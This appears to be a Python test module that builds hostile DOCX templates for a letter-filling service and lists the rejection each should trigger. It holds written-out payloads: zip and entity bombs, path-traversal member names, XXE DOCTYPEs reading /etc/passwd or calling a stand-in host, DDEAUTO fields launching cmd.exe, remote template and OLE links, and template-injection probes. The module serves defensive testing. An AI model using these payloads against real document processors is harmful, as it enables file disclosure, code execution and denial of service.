"""Templates made to do harm: to the one who opens them, or to everybody who gets a letter."""

from __future__ import annotations

import struct
import zipfile
import zlib
from io import BytesIO
from typing import TYPE_CHECKING

from unit.letter_files import (
    MAIN,
    document,
    p,
    part,
    parts,
    relation,
    relations,
    run,
    types,
    zipped,
)

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping

_RELS = "word/_rels/document.xml.rels"
_FIELD = "<w:r><w:fldChar w:fldCharType='{}'/></w:r>"
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
FILLED = "Siti & <Contoh>"


def hostile() -> Iterator[tuple[str, bytes, str]]:
    """
    Yield name, content, and what must come of it.

    That is a part of the refusal's message, or after `=` a part of the filled letter's text; ""
    where both will do, if only soon.
    """
    yield from _bombs()
    yield from _archives()
    yield from _names()
    yield from _xml()
    yield from _fields()
    yield from _outside()


def _bombs() -> Iterator[tuple[str, bytes, str]]:
    yield "bomb", _with({"word/a.bin": bytes(900_000)}), "word/a.bin: packed more than 100"
    stored = zipped({"a.bin": bytes(5_000_001)}, method=zipfile.ZIP_STORED)
    yield "large file", stored, "larger than 5 MB"
    many = {f"word/{n}.xml": _noise(n, 600_000) for n in range(100)}
    yield "many that unpack to 60 MB", _with(many), "more than 50 MB"
    yield "201 members", _with({f"word/{n}.bin": b"" for n in range(198 + 1)}), "more than 200"
    yield "overlapping members", _overlapping(150), "=x"
    inner = zipped({"a.bin": bytes(4_000_000)})
    yield "archive in an archive", _with({"word/a.zip": inner}), "=x"
    yield "declares 4 GB", _declared(size=2**32 - 2), "more than 50 MB"
    yield "declares less", _declared(size=10), "size or checksum"
    yield "declares more", _declared(size=5_000), "size or checksum"
    yield "entity bomb", _with({"word/styles.xml": _entities()}), "word/styles.xml: a DOCTYPE"
    quadratic = f"<!DOCTYPE x [<!ENTITY a '{'a' * 40_000}'>]><x>{'&a;' * 10_000}</x>"
    yield (
        "quadratic entities",
        _stored(parts(p("x")) | {"word/a.xml": quadratic}),
        "word/a.xml: a DOCTYPE",
    )
    deep = "<w:p>" * 100_000 + "</w:p>" * 100_000
    yield "deep nesting", _stored(parts(deep)), "word/document.xml: broken XML"
    yield "one long text", _stored(parts(p("x" * 4_500_000))), ""
    yield "many attributes", _stored(parts(f"<w:p {_attributes(60_000)}/>" + p("x"))), "=x"
    yield "many namespaces", _stored(parts(f"<w:p {_namespaces(20_000)}/>" + p("x"))), "=x"
    yield "many paragraphs", _stored(parts("<w:p/>" * 300_000)), ""
    yield "many placeholders", _stored(parts(p("{{ nama }}") * 20_000)), ""
    yield "many open braces", _stored(parts(p("{{ " * 300_000))), "body, paragraph 1"
    yield "many single braces", _stored(parts(p("{ " * 300_000))), "body, paragraph 1"
    yield (
        "a placeholder in 30,000 runs",
        _stored(parts("<w:p>" + run("{{") + run("") * 30_000 + run("nama }}") + "</w:p>")),
        "",
    )
    yield (
        "long spaces in a placeholder",
        _stored(parts(p("{{" + " " * 500_000 + "nama }}"))),
        (f"={FILLED}"),
    )
    yield "spaces without an end", _stored(parts(p(("{" + " " * 3_000) * 300))), ""


def _archives() -> Iterator[tuple[str, bytes, str]]:
    good = zipped(parts(p("{{ nama }}")))
    yield "no archive", b"Surat Keterangan " * 99, "not a DOCX file"
    yield "nothing", b"", "not a DOCX file"
    yield "end record alone", b"PK\5\6" + bytes(18), "not a DOCX file"
    yield "cut off", good[:-30], "not a DOCX file"
    yield "cut in the middle", good[: len(good) // 2], "not a DOCX file"
    yield "program before it", b"MZ" + bytes(600) + good, f"={FILLED}"
    yield "comment after it", _commented(good, b"PK\5\6" + bytes(40)), ""
    yield "two archives", good + zipped({"evil.txt": b"x"}), "not a DOCX file"
    yield "password", _declared(flags=1), "protected by a password"
    yield "strong encryption", _declared(flags=0x41), "protected by a password"
    for method, name in ((9, "deflate64"), (12, "bzip2"), (14, "LZMA"), (99, "AES"), (93, "zstd")):
        yield f"packed by {name}", _declared(method=method), "packed in a way"
    yield "wrong checksum", _declared(crc=7), "size or checksum"
    yield "said to be stored", _declared(method=0), "size or checksum"
    yield "begins elsewhere", _declared(offset=2**31), "not a DOCX file"
    yield "begins in the middle", _declared(offset=5), "not where the directory says"
    yield "packed size beyond the end", _declared(packed=2**30), "not where the directory says"
    yield "packed size reaches into the directory", _declared(packed=400), "cannot be unpacked"
    yield "on another disk", _end_changed(good, disk=3), ""
    yield "more members than there are", _end_changed(good, members=9), ""
    yield "same name twice", _twice("word/document.xml"), "there twice"
    yield "same name in capitals", _twice("WORD/DOCUMENT.XML"), "there twice"
    yield "other name at the member itself", _renamed_locally(good), f"={FILLED}"


def _names() -> Iterator[tuple[str, bytes, str]]:
    climbing = {
        "up": "../evil.xml",
        "up in the middle": "word/../../evil.xml",
        "up in Windows": "word\\..\\..\\evil.xml",
        "up, both ways": "word/..\\evil.xml",
        "absolute": "/etc/cron.d/evil",
        "absolute in Windows": "\\evil.xml",
        "share": "\\\\198.51.100.7\\evil.xml",
        "drive": "C:/evil.xml",
        "drive's own folder": "C:evil.xml",
        "stream": "word/a.xml:evil",
        "a folder up": "../evil/",
    }
    for name, path in climbing.items():
        yield f"name that climbs: {name}", _with({path: b"<x/>"}), "a name that leads out"
    yield "macros", _with({"word/vbaProject.bin": b"x"}), "macros"
    yield "macros, odd case", _with({"word/VBAPROJECT.BIN": b"x"}), "macros"
    yield "macros, elsewhere", _with({"x/vbaData.xml": b"<x/>"}), "macros"
    yield "control", _with({"word/activeX/activeX1.bin": b"x"}), "macros"
    yield "embedded program", _with({"word/embeddings/oleObject1.bin": b"x"}), "macros"
    enabled = types(main=MAIN.replace("document.main", "document.macroEnabled.main"))
    yield "document with macros", _with({"[Content_Types].xml": enabled}), "macros"
    template = types(main=MAIN.replace("document.main", "template.main"))
    yield "dotx", _with({"[Content_Types].xml": template}), "not a Word document"
    yield "long name", _with({"word/" + "a" * 60_000 + ".bin": b"x"}), "=x"
    yield "device name", _with({"word/CON": b"x"}), "=x"


def _xml() -> Iterator[tuple[str, bytes, str]]:
    doctypes = {
        "file": "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>",
        "web": "<!DOCTYPE x SYSTEM 'http://198.51.100.7/x.dtd'>",
        "parameter": "<!DOCTYPE x [<!ENTITY % a SYSTEM 'http://198.51.100.7/a'> %a;]>",
        "public": "<!DOCTYPE x PUBLIC '-//X' 'http://198.51.100.7/x.dtd'>",
        "empty": "<!DOCTYPE x>",
    }
    for name, doctype in doctypes.items():
        content = {"word/document.xml": doctype + document(p("&a;"))}
        yield f"DOCTYPE: {name}", _with(content), "word/document.xml: a DOCTYPE"
    for encoding in ("utf-16", "utf-32", "utf-16-be"):
        text = f"<?xml version='1.0' encoding='{encoding}'?><!DOCTYPE x><x/>"
        yield f"DOCTYPE in {encoding}", _with({"word/a.xml": text.encode(encoding)}), "word/a.xml"
    seven = b"<?xml version='1.0' encoding='UTF-7'?>+ADwAIQ-DOCTYPE x+AD4-<x/>"
    yield "DOCTYPE in UTF-7", _with({"word/a.xml": seven}), "word/a.xml"
    yield (
        "DOCTYPE in EBCDIC",
        _with({"word/a.xml": "<!DOCTYPE x><x/>".encode("cp500")}),
        "word/a.xml",
    )
    yield (
        "unknown encoding",
        _with({"word/a.xml": "<?xml version='1.0' encoding='x'?><x/>"}),
        "word/a",
    )
    yield "not closed", _with({"word/header1.xml": "<w:hdr>"}), "word/header1.xml: broken XML"
    yield "zero byte", _with({"word/a.xml": b"<x>\0</x>"}), "word/a.xml: broken XML"
    include = (
        '<x xmlns:i="http://www.w3.org/2001/XInclude"><i:include href="file:///etc/passwd"/></x>'
    )
    yield "include", _with({"word/a.xml": include}), "=x"
    sheet = "<?xml-stylesheet href='http://198.51.100.7/x.xsl'?>" + document(p("x"))
    yield "style sheet", _with({"word/document.xml": sheet}), "=x"
    yield "placeholder in a comment", _body("<!-- {{ nik }} -->" + p("x")), "=x"
    yield "placeholder in CDATA", _body(p("<![CDATA[{{ nama }}]]>")), f"={FILLED}"
    yield "braces as numbers", _body(p("&#123;&#x7b; nama &#125;&#125;")), f"={FILLED}"
    yield (
        "braces of two alphabets",
        _body(p("\uff5b\uff5b nama \uff5d\uff5d")),
        ("=\uff5b\uff5b nama \uff5d\uff5d"),
    )
    for name, tag in {"insertion": "ins", "deletion": "del", "move": "moveFrom"}.items():
        inside = "<w:r><w:delText>{{ nama }}</w:delText></w:r>" if tag == "del" else run("a")
        yield f"tracked {name}", _body(f"<w:p><w:{tag}>{inside}</w:{tag}></w:p>"), "tracked change"
    yield "logic", _body(p("{% for x in y %}")), "body, paragraph 1"
    yield "attribute access", _body(p("{{ nama.__class__ }}")), "{{ nama.__class__ }}"
    yield "call", _body(p("{{ nama() }}")), "{{ nama() }}"
    yield "item", _body(p("{{ nama[0] }}")), "{{ nama[0] }}"
    yield "format", _body(p("{{ nama!r:>9999999 }}")), "body, paragraph 1"
    chart = {"word/charts/chart1.xml": "<c>{{ nama }}</c>"}
    yield "placeholder in a chart", _with(chart), "word/charts/chart1.xml"
    comments = part("<w:comment>" + p("x") + "</w:comment>", root="comments")
    yield "comments", _with({"word/comments.xml": comments}), "comments"


def _fields() -> Iterator[tuple[str, bytes, str]]:
    codes = (
        'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"', "DDE cmd x", " ddeauto cmd",
        'INCLUDEPICTURE "http://198.51.100.7/a.png"', 'INCLUDETEXT "\\\\\\\\198.51.100.7\\\\a"',
        "INCLUDE x", 'LINK Excel.Sheet.8 "a.xls"', "IMPORT a.png", "DATABASE \\d x",
        "MACROBUTTON x y",
    )  # fmt: skip
    for code in codes:
        yield f"field {code[:9]}", _body(_field(code)), code.split()[0]
        simple = code.replace('"', "&quot;")
        content = f'<w:p><w:fldSimple w:instr="{simple}">{run("x")}</w:fldSimple></w:p>'
        yield f"simple field {code[:9]}", _body(content), code.split()[0]
    yield "DDE in two runs", _body(_field("DDE", "AUTO cmd")), "DDEAUTO"
    yield "DDE in small steps", _body(_field(*"DDEAUTO cmd")), "DDEAUTO"
    yield "DDE inside another field", _body(_field("IF 1=1 ", inner="DDEAUTO cmd")), "DDEAUTO"
    yield "DDE in numbers", _body(_field("", inner="QUOTE 68 68 69 65 85 84 79 32 99")), "="
    yield "placeholder in a code", _body(_field("MERGEFIELD {{ nama }}")), "inside a field code"
    yield "page number", _body(_field("PAGE")), "="


def _outside() -> Iterator[tuple[str, bytes, str]]:
    targets = {
        "picture": ("image", "http://198.51.100.7/a.png", "External"),
        "hidden picture": ("image", "http://198.51.100.7/a.png", "Internal"),
        "picture on a share": ("image", "\\\\198.51.100.7\\a.png", "External"),
        "file": ("image", "file:///etc/passwd", "External"),
        "template": ("attachedTemplate", "http://198.51.100.7/a.dotm", "External"),
        "inner template": ("attachedTemplate", "a.dotm", "Internal"),
        "OLE": ("oleObject", "http://198.51.100.7/a", "External"),
        "web page": ("aFChunk", "a.html", "Internal"),
        "frame": ("frame", "http://198.51.100.7/", "External"),
        "subdocument": ("subDocument", "a.docx", "External"),
        "mail merge": ("mailMergeSource", "file:///a.mdb", "External"),
        "settings": ("settings", "http://198.51.100.7/s.xml", "External"),
        "font": ("font", "http://198.51.100.7/a.odttf", "External"),
        "customXml": ("customXml", "http://198.51.100.7/a.xml", "External"),
        "video": ("video", "https://198.51.100.7/v", "External"),
    }
    for name, (kind, target, mode) in targets.items():
        content = {_RELS: relations(relation(kind, target, mode=mode))}
        yield f"outside: {name}", _with(content), "document.xml.rels"
    merge = (
        f'<w:settings xmlns:w="{_W}"><w:mailMerge><w:query w:val="x"/></w:mailMerge></w:settings>'
    )
    yield "mail merge query", _with({"word/settings.xml": merge}), "word/settings.xml"
    link = relations(relation("hyperlink", "https://kebobang.example", mode="External"))
    yield "hyperlink", _with({_RELS: link}), "=x"


def _with(files: Mapping[str, str | bytes]) -> bytes:
    return zipped(parts(p("x")) | dict(files))


def _body(body: str) -> bytes:
    return zipped(parts(body))


def _stored(files: Mapping[str, str | bytes]) -> bytes:
    """Return an archive whose members are packed less than 100 to 1, or not at all."""
    return zipped(files, method=zipfile.ZIP_STORED)


def _field(*codes: str, inner: str = "") -> str:
    begin, separate, end = map(_FIELD.format, ("begin", "separate", "end"))
    texts = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    nested = f"{begin}<w:r><w:instrText>{inner}</w:instrText></w:r>{end}" if inner else ""
    return f"<w:p>{begin}{texts}{nested}{separate}{run('1')}{end}</w:p>"


def _entities() -> str:
    levels = "".join(f'<!ENTITY a{n + 1} "{f"&a{n};" * 10}">' for n in range(9))
    return f"<!DOCTYPE x [<!ENTITY a0 'x'>{levels}]><x>&a9;</x>"


def _noise(seed: int, length: int) -> bytes:
    """Return XML that packs some twenty to one."""
    word = f"{zlib.crc32(bytes([seed])):08x}{'x' * 300}".encode()
    return b"<x>" + word * (length // len(word)) + b"</x>"


def _attributes(count: int) -> str:
    return " ".join(f"a{n}='x'" for n in range(count))


def _namespaces(count: int) -> str:
    return " ".join(f"xmlns:n{n}='urn:{n}'" for n in range(count))


def _declared(**fields: int) -> bytes:
    """Return a good file whose last member's directory entry says something else."""
    places = {
        "flags": (8, "<H"), "method": (10, "<H"), "crc": (16, "<L"), "packed": (20, "<L"),
        "size": (24, "<L"), "offset": (42, "<L"),
    }  # fmt: skip
    content = bytearray(zipped(parts(p("x" * 100))))
    entry = content.rindex(b"PK\1\2")
    for name, value in fields.items():
        offset, kind = places[name]
        struct.pack_into(kind, content, entry + offset, value)
    return bytes(content)


def _end_changed(content: bytes, *, disk: int = 0, members: int = 0) -> bytes:
    changed, end = bytearray(content), content.rindex(b"PK\5\6")
    if disk:
        struct.pack_into("<HH", changed, end + 4, disk, disk)
    if members:
        struct.pack_into("<HH", changed, end + 8, members, members)
    return bytes(changed)


def _commented(content: bytes, comment: bytes) -> bytes:
    end = content.rindex(b"PK\5\6")
    return content[: end + 20] + struct.pack("<H", len(comment)) + comment


def _twice(name: str) -> bytes:
    file = BytesIO(zipped(parts(p("x"))))
    with zipfile.ZipFile(file, "a") as archive:
        archive.getinfo("word/document.xml").filename = "word/document.xml"
        archive.NameToInfo.pop("word/document.xml")  # or zipfile warns
        archive.writestr(name, document(p("y")))
    return file.getvalue()


def _renamed_locally(content: bytes) -> bytes:
    """Return a file in which a member calls itself something that its directory does not."""
    at = content.index(b"word/document.xml")
    return content[:at] + b"word/../../../evi" + content[at + 17 :]


def _overlapping(count: int) -> bytes:
    """Return a file whose members all lie at the same place, as in a bomb without nesting."""
    content = zipped(parts(p("x")))
    end = content.rindex(b"PK\5\6")
    start = struct.unpack_from("<L", content, end + 16)[0]
    entry = content[content.rindex(b"PK\1\2") : end]
    more = b"".join(
        entry.replace(b"word/document.xml", f"word/d{n:07d}.xml".encode()) for n in range(count)
    )
    whole = content[:end] + more
    total = count + 3
    size = len(whole) - start
    return whole + struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, total, total, size, start, 0)
